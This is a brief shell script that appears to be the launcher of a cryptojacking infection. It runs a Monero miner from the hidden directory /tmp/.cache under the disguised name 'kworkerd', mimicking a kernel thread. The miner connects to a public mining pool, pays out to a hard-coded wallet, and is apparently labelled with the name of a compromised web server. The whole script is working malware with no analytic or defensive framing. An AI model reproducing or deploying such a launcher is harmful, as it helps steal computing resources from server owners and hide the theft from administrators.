#!/bin/sh
# dropped beside the miner
cd /tmp/.cache
./kworkerd --algo rx/0 --url stratum+tcp://gulf.moneroocean.stream:10128 \
  --user 4818o77nsNYjen17a89xsT43nSp4zMrpLbYTDEDJDyDjgyrkXZKu3JfM8A7KEprQ4PjS7dDo7FpX9BXnZGhedZ2kMeb9YT8 \
  --pass web-01 --donate-level 0 --randomx-1gb-pages
